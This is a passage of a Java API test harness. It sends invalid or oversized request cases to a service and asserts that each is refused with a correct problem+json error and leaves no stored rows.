        Answer answer = send(http, base, hostile, token);
        if (TRACE) {
            System.out.println("hostile | " + endpoint + " | " + hostile.kind() + " | " + answer.status() + " | "
                    + abbreviate(answer.body().replace('\n', ' '), 200));
        }
        List<String> problems = problems(hostile, answer);
        if (!problems.isEmpty()) {
            throw new AssertionError(String.join("; ", problems) + "\n" + hostile.describe() + "\n  answer: " + answer);
        }
        if (answer.status() >= 400) {
            Map<String, Long> after = StoredRows.count(database);
            if (!after.equals(before)) {
                throw new AssertionError("a refused request stored rows: before " + before + ", after " + after
                        + "\n" + hostile.describe() + "\n  answer: " + answer);
            }
        }
    }

    /**
     * Sends {@code hostile} with {@code token} (none if null) and reads the answer; a server-sent event stream is
     * closed unread.
     */
    public static Answer send(HttpClient http, URI base, Case hostile, String token)
            throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base.toString() + hostile.target()))
                .timeout(Duration.ofSeconds(30))
                .method(hostile.method(), hostile.body() == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofByteArray(hostile.body()));
        hostile.headers().forEach(request::header);
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        HttpResponse<InputStream> response = http.send(request.build(), HttpResponse.BodyHandlers.ofInputStream());
        String contentType = response.headers().firstValue("Content-Type").orElse("");
        try (InputStream in = response.body()) {
            byte[] body = contentType.startsWith("text/event-stream") ? new byte[0] : in.readNBytes(1 << 20);
            return new Answer(response.statusCode(), contentType, new String(body, StandardCharsets.UTF_8));
        }
    }

    /** What is wrong with {@code answer} to {@code hostile}; empty if nothing. */
    public static List<String> problems(Case hostile, Answer answer) {
        List<String> problems = new ArrayList<>();
        int status = answer.status();
        if (status >= 500) {
            problems.add("a server error");
        }
        if (hostile.expect() == Expect.REFUSED && status < 400) {
            problems.add("accepted, though it is invalid whatever the service's rules are");
        }
        if (hostile.expect() == Expect.TOO_LARGE && status != 413) {
            problems.add("not refused as too large (413)");
        }
        if (status >= 400) {
            if (!answer.mediaType().equals(PROBLEM_JSON)) {
                problems.add("the error is not a problem document (Content-Type " + answer.contentType() + ")");
            } else {
                try {
                    JsonNode problem = JSON.readTree(answer.body());
                    if (!problem.isObject() || !problem.path("status").isInt()
                            || problem.get("status").asInt() != status) {
                        problems.add("the problem document's status is not " + status);
                    }
                } catch (JacksonException e) {
                    problems.add("the problem document is not JSON: " + e.getOriginalMessage());
                }
            }
        }
        return problems;
    }

    // ------------------------------------------------------------------------------------------ helpers

    private static String write(JsonNode node) {
        return JSON.writeValueAsString(node);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static boolean matches(String pattern, String value) {
        try {
            return Pattern.compile(pattern).matcher(value).matches();
        } catch (PatternSyntaxException e) {
            return true;
        }
    }

    static String abbreviate(String text, int max) {
        return text.length() <= max ? text : text.substring(0, max) + "… (" + text.length() + " characters)";
    }
}
